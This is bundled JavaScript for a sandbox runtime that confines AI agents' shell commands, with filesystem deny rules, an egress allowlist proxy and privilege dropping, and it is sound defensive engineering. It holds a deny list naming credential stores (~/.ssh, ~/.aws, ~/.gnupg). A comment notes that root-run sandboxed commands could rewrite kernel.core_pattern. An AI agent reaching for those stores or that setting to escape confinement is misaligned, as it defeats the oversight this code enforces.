        const tmp = req.env.TMPDIR ?? this.opts.tmpDir;
        // The proxy variables likewise (the library's carry no credential); the URL itself travels
        // in the environment, not in the command line every host process can read.
        const egress = userCommand ? this.opts.egress : undefined;
        // Same line, so the shell's line numbers in error messages stay the command's own.
        const command = (tmp ? `export TMPDIR=${q(tmp)}; ` : '') +
            (egress ? `${proxyExports()} ` : '') +
            prepared.command;
        const fs = scan
            ? {
                ...this.opts.fs,
                denyWrite: [
                    ...this.opts.fs.denyWrite,
                    ...scan.deny.map((path) => ({ path, literal: true }))
                ]
            }
            : this.opts.fs;
        const argv = await this.opts.backend.wrap(command, req.cwd, fs, {
            commandId,
            commandText: req.command
        });
        let child;
        try {
            // detached: the outer shell leads a process group of its own (see kill.ts).
            child = (0,external_node_child_process_.spawn)(argv[0], argv.slice(1), {
                cwd: req.cwd,
                env: {
                    ...prepared.env,
                    ...(tmp ? { TMPDIR: tmp } : {}),
                    // The CA variables over the runner's, under the step's own `env:`.
                    ...withoutKeys(this.opts.caEnv, req.env),
                    // The runner's HOME is not the sandbox user's (and is hidden from it).
                    ...(this.opts.user ? { HOME: this.opts.tmpDir ?? '/nonexistent' } : {}),
                    ...(egress ? { [PROXY_URL_VAR]: proxyUrl(egress.token) } : {}),
                    [process_tree/* TOKEN_VAR */.ey]: token
                },
                ...(this.opts.user ? { uid: this.opts.user.uid, gid: this.opts.user.gid } : {}),
                detached: true,
                stdio: [withStdin ? 'pipe' : 'ignore', 'pipe', 'pipe']
            });
        }
        catch (e) {
            this.opts.backend.done();
            throw e;
        }
        return { child, token };
    }
}
function firstLine(s) {
    return s.trim().split('\n')[0] ?? '';
}
function withoutKeys(vars, taken) {
    return Object.fromEntries(Object.entries(vars ?? {}).filter(([k]) => !(k in taken)));
}

// EXTERNAL MODULE: ./src/lib/user.ts
var lib_user = __webpack_require__(89332);
;// CONCATENATED MODULE: ./src/runtime/srt/index.ts
// srt mode (MassGen's `command_line_execution_mode: srt`): each step in an Anthropic
// sandbox-runtime sandbox (bubblewrap on Linux) on the host, no Docker. Filesystem rules from the
// plan (settings.ts), network through the shared egress model (an EgressProxy per agent behind the
// process-wide front, network.ts; none without command_line_egress), processes killed by namespace
// (kill.ts).















/** The process-wide backend on sandbox-runtime's SandboxManager (what `run` uses). */
const LIBRARY_BACKEND = {
    acquire: acquireBackend,
    release: releaseBackend
};
const SRT_DEFAULTS = {
    readMode: 'confined',
    denyRead: [],
    allowRead: [],
    allowUnixSockets: [],
    readOnly: false
};
function createSrtRuntime(opts = {}) {
    const backendSource = opts.backend ?? LIBRARY_BACKEND;
    const home = opts.home ?? (0,external_node_os_.homedir)();
    return {
        async start(agent, ctx) {
            const srt = agent.srt ?? SRT_DEFAULTS;
            const log = (line) => ctx.log(`[${agent.id}] ${line}`);
            const inStores = pathsInSecretStores(agent, srt, home);
            if (inStores.length)
                throw new errors/* EnvironmentError */.eG(`srt never exposes credential stores, but these paths of the agent lie in one: ${inStores.join(', ')}`, 'give the agent a workspace and context paths outside ~/.ssh, ~/.aws, ~/.gnupg, …');
            const backend = await backendSource.acquire();
            let tmpDir;
            let egress;
            let ca;
            try {
                if (agent.caCertificates?.length) {
                    ca = await (0,ca_bundle/* writeCaBundle */.qA)(agent.caCertificates, { log });
                    log(`${(0,ca_bundle/* describeCaBundle */.KM)(ca)}; trusted by the sandboxed commands (${ca_bundle/* CA_ENV_NAMES */.e3.join(', ')})`);
                }
                if (agent.egress)
                    egress = await startEgress(agent, backend, log, opts.egressResolve);
                if (!srt.readOnly)
                    tmpDir = await (0,promises_.mkdtemp)((0,external_node_path_.join)((0,external_node_os_.tmpdir)(), `massgen-srt-${agent.id}-`));
                const user = opts.sandboxUser === undefined
                    ? sandboxUser(process.geteuid?.(), await (0,promises_.stat)(agent.workspace))
                    : (opts.sandboxUser ?? undefined);
                if (user) {
                    log(`running as root: sandboxed commands run as ${user.uid}:${user.gid} (the workspace's owner, or the images' user when root owns it: as root they could rewrite host-wide kernel settings)`);
                    await grantAccess(agent, user, tmpDir, log);
                }
                else {
                    const me = { uid: process.geteuid?.() ?? 0, gid: process.getegid?.() ?? 0 };
                    const warning = await (0,workspace_owner/* checkWorkspaceWritable */.wH)(agent.workspace, me, 'sandbox user');
                    if (warning)
                        log(warning);
                }
                const fs = buildFilesystem({
                    agent,
                    srt,
                    home,
                    sandboxUserHome: user ? (user.home ?? '/nonexistent') : undefined,
                    tmpDir,
                    helperPaths: ca ? [...backend.helperPaths, ca.dir] : backend.helperPaths
                });
                if (srt.allowUnixSockets.length)
                    log('command_line_srt_allow_unix_sockets is not applied on Linux: sandbox-runtime blocks every Unix socket there (seccomp cannot filter by path), so the listed sockets stay unreachable');
                const me = (0,external_node_os_.userInfo)();
                return new SrtSession({
                    agent,
                    backend,
                    egress,
                    fs,
                    tmpDir,
                    user,
                    info: {
                        mode: 'srt',
                        limits: {
                            sandbox: backend.version,
                            readMode: srt.readMode,
                            readOnly: srt.readOnly,
                            network: agent.egress
                                ? agent.egress.audit
                                    ? 'egress audit'
                                    : 'egress allowlist'
                                : 'none',
                            user: user ? `${user.uid}:${user.gid}` : `${me.uid}:${me.gid}`,
                            memory: null,
                            cpus: null,
                            pidsLimit: null
                        }
                    },
                    caEnv: ca ? (0,ca_bundle/* caEnv */.Ck)(ca.file) : undefined,
                    onClose: async () => {
                        await ca?.remove().catch(() => { });
                        await backendSource.release();
                    },
                    log,
                    // The compare step's trees (run/compare's COMPARE_DIR): the product unpacks and removes
                    // them itself, as the agent's user, and runs no git in them.
                    protectedSkip: ['.massgen-compare'],
                    hostHooksPath: hostHooksPath()
                });
            }
            catch (e) {
                await ca?.remove().catch(() => { });
                if (tmpDir)
                    await (0,promises_.rm)(tmpDir, { recursive: true, force: true }).catch(() => { });
                await egress?.endpoint.close();
                await backendSource.release();
                throw e;
            }
        },
        // Sessions clean up after themselves at close (processes, temp directory, the library).
        async cleanup() { }
    };
}
/**
 * core.hooksPath from the host's global and system git config: a relative one names a directory
 * in every repository (protected in each, like .git/hooks).
 */
function hostHooksPath() {
    const r = (0,external_node_child_process_.spawnSync)('git', ['config', '--get', 'core.hooksPath'], {
        cwd: '/',
        encoding: 'utf8',
        timeout: 5000,
        env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: (0,external_node_os_.homedir)() }
    });
    return r.status === 0 ? r.stdout.trim() || undefined : undefined;
}
/** The agent's own egress endpoint, reached through the backend's front with a fresh token. */
async function startEgress(agent, backend, log, resolve) {
    const c = agent.egress;
    const { endpoint, token } = await (0,egress/* openFrontEndpoint */.Hf)({
        config: c,
        log,
        resolve,
        register: (t, proxy) => backend.registerEgress(t, proxy)
    });
    const policy = endpoint.policy;
    log(`egress: ${policy.audit ? 'audit mode (every name goes through and is recorded)' : `${policy.rules.length} allowlist entries`}` +
        `${c.presets.length ? ` (presets ${c.presets.join(', ')})` : ''}; private ranges ` +
        `${c.allowedPrivateRanges.length ? c.allowedPrivateRanges.join(', ') : 'refused'}`);
    return { endpoint, token };
}
/**
 * A root runner's sandboxed commands run as the workspace's owner, as docker mode's do, or as the
 * images' default user (1000:1000) when root owns it: as uid 0, sandbox-runtime's nested namespace
 * keeps global root's rights over /proc/sys, so a command could rewrite host-wide settings such as
 * kernel.core_pattern (measured: writable). Anyone else runs them as themselves, which is
 * sandbox-runtime's own model.
 */
function sandboxUser(euid = process.geteuid?.(), owner = { uid: 0, gid: 0 }) {
    if (euid !== 0)
        return undefined;
    const user = (0,workspace_owner/* followOwner */.zc)(owner, (0,lib_user/* parseUser */.tN)(defaults/* DEFAULT_USER */.Az));
    return { ...user, home: homeOf(user.uid) };
}
function homeOf(uid) {
    try {
        for (const line of (0,external_node_fs_.readFileSync)('/etc/passwd', 'utf8').split('\n')) {
            const f = line.split(':');
            if (Number(f[2]) === uid && f[5])
                return f[5];
        }
    }
    catch {
        // no passwd: no home of that user to protect
    }
    return undefined;
}
/**
 * The private TMPDIR (ours) becomes the sandbox user's; the workspace is the user's and is never
 * chown'ed or chmod'ed: a warning says so when the sandbox user cannot write it.
 */
async function grantAccess(agent, user, tmpDir, log) {
    if (tmpDir)
        await (0,promises_.chown)(tmpDir, user.uid, user.gid);
    // Every directory above the workspace must let the sandbox user through, or every step fails.
    for (let dir = (0,external_node_path_.dirname)(agent.workspace);; dir = (0,external_node_path_.dirname)(dir)) {
        const d = await (0,promises_.stat)(dir);
        const x = d.uid === user.uid ? 0o100 : d.gid === user.gid ? 0o010 : 0o001;
        if ((d.mode & x) === 0)
            throw new errors/* EnvironmentError */.eG(`the workspace ${agent.workspace} is out of reach of the sandbox user ${user.uid}:${user.gid}: ${dir} is mode ${(d.mode & 0o777).toString(8)}`, 'running as root, srt runs commands as the workspace owner or 1000:1000; put the workspace where that user can reach it (or run the runner as a non-root user)');
        if (dir === '/')
            break;
    }
    const warning = await (0,workspace_owner/* checkWorkspaceWritable */.wH)(agent.workspace, user, 'sandbox user');
    if (warning)
        log(warning);
    for (const c of agent.contextPaths.filter((x) => x.permission === 'write')) {
        const s = await (0,promises_.stat)(c.path).catch(() => undefined);
        if (s && s.uid !== user.uid && (s.mode & 0o002) === 0)
            log(`warning: context path ${c.path} is not writable by the sandbox user ${user.uid}:${user.gid}`);
    }
}


/***/ })

};
